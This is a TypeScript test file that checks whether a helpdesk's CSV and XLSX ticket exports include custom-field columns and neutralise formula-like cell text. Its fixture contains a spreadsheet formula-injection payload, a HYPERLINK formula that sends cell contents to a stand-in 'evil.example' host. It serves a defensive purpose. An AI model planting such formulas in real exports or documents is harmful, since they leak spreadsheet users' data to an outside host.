/**
 * Custom fields in ticket exports: a column per field staff see (`custom_fields.<key>`, an export is
 * managers'), in the default columns, asked for by name, neutralised like every other text cell.
 */
import Papa from "papaparse";
import * as XLSX from "xlsx";
import { beforeAll, describe, expect, it } from "vitest";
import { api, makeStaff } from "../helpers";
import { defineField, uniqueKey } from "../fields/support";
import { openTicket } from "../tickets/fixtures";
import { download, finished } from "./support";

let s: Awaited<ReturnType<typeof makeStaff>>;
const category = `cf-${crypto.randomUUID().slice(0, 8)}`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
let text: { key: string };
let hidden: { key: string };
let count: { key: string };
let labels: { key: string };
let urgent: { key: string };
const col = (f: { key: string }) => `custom_fields.${f.key}`;

beforeAll(async () => {
  s = await makeStaff();
  const options = [
    { value: "alpha", label: "Alpha" },
    { value: "beta", label: "Beta" },
  ];
  text = await defineField(s.admin, { key: uniqueKey("serial"), label: "Serial", type: "text", customer_visible: true });
  // Not customer_visible: staff see it, so the (managers') export has it.
  hidden = await defineField(s.admin, { key: uniqueKey("internal_code"), label: "Internal code", type: "text" });
  count = await defineField(s.admin, { key: uniqueKey("units"), label: "Units", type: "integer" });
  labels = await defineField(s.admin, { key: uniqueKey("labels"), label: "Labels", type: "multiselect", options });
  urgent = await defineField(s.admin, { key: uniqueKey("urgent"), label: "Urgent", type: "checkbox" });
  await openTicket(s.agent, { subject: "with values", category, custom_fields: { [text.key]: FORMULA, [hidden.key]: "@SUM(1,2)", [count.key]: 7, [labels.key]: ["alpha", "beta"], [urgent.key]: true } });
  await openTicket(s.agent, { subject: "without values", category });
}, 60_000);

async function exported(format: "csv" | "xlsx", columns?: string[]) {
  const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format, filters: { category, sort: "created_at" }, ...(columns ? { columns } : {}) } });
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  const job = await finished(s.manager, res.body.id);
  expect(job.status).toBe("done");
  return (await download(s.manager, job.id)).bytes;
}

describe("custom fields in ticket exports", () => {
  it("CSV: every field is a column by default, values as staff see them, formula-looking text neutralised", async () => {
    const csv = new TextDecoder().decode(await exported("csv"));
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(expect.arrayContaining([col(text), col(hidden), col(count), col(labels), col(urgent)]));
    const [withValues, without] = parsed.data;
    expect(withValues).toMatchObject({ subject: "with values", [col(text)]: `'${FORMULA}`, [col(hidden)]: "'@SUM(1,2)", [col(count)]: "7", [col(labels)]: "alpha, beta", [col(urgent)]: "true" });
    expect(without).toMatchObject({ subject: "without values", [col(text)]: "", [col(count)]: "" });
    // No cell of the file starts a formula.
    for (const row of parsed.data) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@]/);
  });

  it("XLSX: fields asked for by name are typed cells, text never a formula; an unknown field is a 400", async () => {
    const bytes = await exported("xlsx", ["subject", col(text), col(count), col(urgent)]);
    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.Tickets!;
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null });
    expect(rows[0]).toEqual({ subject: "with values", [col(text)]: FORMULA, [col(count)]: 7, [col(urgent)]: true });
    expect(rows[1]).toEqual({ subject: "without values", [col(text)]: null, [col(count)]: null, [col(urgent)]: null });
    for (const cell of Object.values(sheet)) if (cell && typeof cell === "object" && "t" in cell) expect((cell as { f?: unknown }).f).toBeUndefined();
    const bad = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", columns: ["subject", "custom_fields.no_such_field"] } });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.errors)).toEqual(["columns"]);
  });
});
